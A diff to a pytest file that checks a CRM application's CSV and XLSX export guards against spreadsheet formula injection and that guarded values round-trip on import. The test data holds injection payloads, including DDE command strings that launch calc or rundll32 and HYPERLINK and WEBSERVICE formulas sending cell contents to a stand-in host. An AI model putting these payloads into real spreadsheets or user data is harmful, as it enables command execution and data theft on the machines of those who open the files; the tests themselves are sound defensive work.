@@ -1,22 +1,47 @@
 import csv
 import json
+import re
 from contextlib import closing
 from datetime import timedelta
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from openpyxl import load_workbook
 
 from crm_desktop.core.errors import NotAllowed, UserError
 from crm_desktop.data.database import fetch
 from crm_desktop.exchange import export as exporting
 from crm_desktop.exchange.export import export, export_everything
+from crm_desktop.exchange.importing import prepare
 from crm_desktop.exchange.writers import from_xlsx, guarded, json_value, unguarded, write_csv, write_xlsx, xlsx_text
 from crm_desktop.queries.columns import Column
 from crm_desktop.queries.listing import Question
 from crm_desktop.queries.subjects import CUSTOMERS, INTERACTIONS, ORDERS, SUBJECTS
 from tests.conftest import MOMENT
 
-FORMULAS = ("=1+1", "+49 30", "-5", "@SUM(A1)", "\ttab", "\nline", "＝１", "＋１", "－１", "＠", "=cmd|' /C calc'!A0", '=HYPERLINK("x")')
+FORMULAS = (
+    "=1+1", "+49 30", "-5", "@SUM(A1)", "\ttab", "\nline", "＝１", "＋１", "－１", "＠", "=cmd|' /C calc'!A0", '=HYPERLINK("x")',
+    '=HYPERLINK("http://a.example/?"&A1,"Click")', "=IMPORTXML(CONCAT(A1),1)", '=WEBSERVICE("http://a.example")', "=DDE(1)", "=A1:A9",
+    "=rundll32|'URL.dll,OpenURL'!A", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2",
+    "\t=1+1", "\n=1+1", "=\t1", "==1", "=+1", "+=1", "@=1", "-=1", "=1\n=2", "'=1", "''=1", "='a'!A1", '="a"&"b"', "=", "+", "-", "@",
+    "=1;=2", "=1,=2",
+)  # fmt: skip
+PARTED = (
+    "a;=1",
+    "a,=1",
+    "a\t=1",
+    "a|=1",
+    ";=cmd|' /C calc'!A0;",
+    ",@SUM(A1)",
+    "x\n=1",
+    "x\r\n=1",
+    "x\n-1+cmd|' /C calc'!A0",
+    "a;'=1",
+    "a;;＝1",
+)
+"""Formulas behind a sign that parts cells where the list is opened otherwise."""
+COMPANY = '[company]\nname = "A"\ncurrency = "EUR"\nzone = "Europe/Berlin"\n'
 TEXTS = ("plain", "", "'", "'plain", "'=", "''=", "a=1", " =1", "_x0041_", "x_x0041_y", "__x0041_", "\ufffe", "\uffff_x")
 
 
@@ -47,6 +72,37 @@ def test_what_a_spreadsheet_takes_for_a_formula_has_an_apostrophe_in_front(text,
 def test_taking_the_apostrophe_away_gives_every_text_back(text):
     assert unguarded(guarded(text)) == text
     assert from_xlsx(xlsx_text(text)) == text
+
+
+@pytest.mark.parametrize("text", PARTED)
+def test_what_becomes_a_cell_where_another_sign_parts_them_is_no_formula_either(text, tmp_path):
+    write_csv(tmp_path / "a.csv", [Column("text", ""), Column("more", "")], [("x", text)])
+    (row,) = read(tmp_path / "a.csv")
+    cells = re.split(r"[,;\t|\r\n]", row["more"])
+    assert not any(cell.startswith(("=", "@", "+", "-", "＝")) for cell in cells)
+    assert unguarded(row["more"]) == text
+
+
+def test_a_list_of_points_stays_as_it_was_written():
+    assert guarded("To do:\n- call\n- write, then wait") == "To do:\n- call\n- write, then wait"
+
+
+@given(st.text("'=+-@;,|\t\r\n ax＝"))
+def test_any_text_comes_back(text):
+    assert unguarded(guarded(text)) == text
+
+
+def test_formulas_that_were_exported_come_in_again_as_they_were(tmp_path):
+    texts = [text for text in (*FORMULAS, *PARTED) if "\r" not in text]  # none is in a store
+    columns = [Column(name, "") for name in ("number", "name", "notes")]
+    rows = [(f"C{number}", f"Customer {number}", text) for number, text in enumerate(texts)]
+    for write, ending in ((write_csv, ".csv"), (lambda path, *rest: write_xlsx(path, "all", *rest), ".xlsx")):
+        write(tmp_path / f"a{ending}", columns, rows)
+        mapping = f'source = "a"\nguarded = true\n{COMPANY}[[file]]\npath = "a{ending}"\n[file.customer]\nid = "number"\nname = "name"\n'
+        (tmp_path / "m.toml").write_text(f'{mapping}notes = "notes"\n')
+        (customers,) = prepare(tmp_path / "m.toml", tmp_path).incoming
+        notes = [row[customers.columns.index("notes")] for row in customers.rows]
+        assert notes == texts
 
 
 @pytest.mark.parametrize("text", FORMULAS)
